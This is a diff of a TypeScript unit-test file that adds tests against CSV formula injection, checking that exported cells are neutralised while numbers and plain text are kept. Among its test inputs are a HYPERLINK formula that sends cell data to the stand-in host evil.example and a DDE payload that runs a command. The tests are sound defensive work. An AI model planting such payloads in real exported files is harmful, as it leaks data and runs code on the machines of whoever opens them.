@@ -1,7 +1,15 @@
 import assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import fc from 'fast-check';
-import { CsvLimitError, CsvReader, csvLine, parseCsv, parseCsvRows } from './csv.ts';
+import {
+  CsvLimitError,
+  CsvReader,
+  csvCell,
+  csvLine,
+  neutraliseFormula,
+  parseCsv,
+  parseCsvRows,
+} from './csv.ts';
 
 /** Reads a text pushed in the given pieces. */
 function readPieces(pieces: string[], limits?: { cells: number; chars: number }) {
@@ -78,5 +86,54 @@ describe('CsvReader', () => {
 describe('csvLine', () => {
   it('quotes what needs quoting and neutralises formulas', () => {
     assert.equal(csvLine(['a,b', '=cmd()', -5, null]), '"a,b",\'=cmd(),-5,\r\n');
+  });
+});
+
+describe('csvCell: formula injection', () => {
+  it('leaves a value alone when the whole of it is a number', () => {
+    for (const n of [
+      '-1',
+      '+1.5',
+      '1e5',
+      '-0.5',
+      '-.5',
+      '+0',
+      '-1E-3',
+      '12',
+      '0.25',
+      '-12345678901234567890',
+    ]) {
+      assert.equal(csvCell(n), n, n);
+    }
+    for (const n of [-1, 1.5, -0.5, 1e21, -1e-7, 0]) assert.equal(csvCell(n), String(n), String(n));
+  });
+
+  it('neutralises anything else that starts with = + - @, a tab or a carriage return', () => {
+    const cases: [string, string][] = [
+      [
+        '-1+HYPERLINK("http://evil.example/?x="&A1,"คลิก")',
+        `"'-1+HYPERLINK(""http://evil.example/?x=""&A1,""คลิก"")"`,
+      ],
+      ['=1', "'=1"],
+      ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
+      ['\t=1', "'\t=1"],
+      ['\r=1', `"'\r=1"`],
+      ['+66 81 234 5678', "'+66 81 234 5678"],
+      ['-', "'-"],
+      ['+', "'+"],
+      ['-1-1', "'-1-1"],
+      ['1e5+1', '1e5+1'],
+      ['--1', "'--1"],
+      ['-1 ', "'-1 "],
+      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+      ['-Infinity', "'-Infinity"],
+    ];
+    for (const [given, want] of cases) assert.equal(csvCell(given), want, JSON.stringify(given));
+  });
+
+  it('leaves text that does not start like a formula as it is', () => {
+    for (const s of ['081-234-5678', 'เทศบาลเมืองบ้านบัว', 'a=b', ' =1', '1+1', '', "'=1"]) {
+      assert.equal(neutraliseFormula(s), s, JSON.stringify(s));
+    }
   });
 });
